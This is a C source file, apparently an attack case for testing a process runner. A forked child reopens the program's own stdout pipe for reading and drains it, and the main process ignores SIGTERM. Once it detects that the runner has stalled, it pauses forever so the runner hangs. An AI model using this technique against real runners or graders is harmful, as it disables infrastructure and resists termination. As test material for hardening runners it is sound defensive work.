/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A pipe's end for writing can be opened again for reading. Whoever waits for a
 * pipe to have something, and then reads without looking again, can be made to
 * wait for ever: what it was told about is gone. The other stream tells us when
 * that has happened, because it is not emptied any more.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

enum { TRIES = 100000, EVERY = 20, PATIENCE_MS = 200, NEVER = 7 };

static void steal_until(const volatile int *stop)
{
	int fd = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	char data[4096];

	while (!*stop)
		(void)!read(fd, data, sizeof(data));
	_exit(0);
}

/* Standard error stays full: the runner does not come back to it. */
static bool runner_hangs(void)
{
	int left = 0;

	if (write(2, "e", 1) != 1)
		return false;
	for (int i = 0; i < PATIENCE_MS; i++) {
		usleep(1000);
		if (ioctl(2, FIONREAD, &left) < 0 || left == 0)
			return false;
	}
	return true;
}

int steal_output(void)
{
	volatile int *stop =
		mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	signal(SIGTERM, SIG_IGN);
	if (fork() == 0)
		steal_until(stop);
	for (int i = 0; i < TRIES; i++) {
		if (write(1, "x", 1) != 1)
			return NEVER;
		for (volatile int wait = 0; wait < (i * 37) % 20000; wait++)
			continue;
		if (i % EVERY == 0 && runner_hangs()) {
			*stop = 1;
			for (;;)
				pause();
		}
	}
	return NEVER;
}
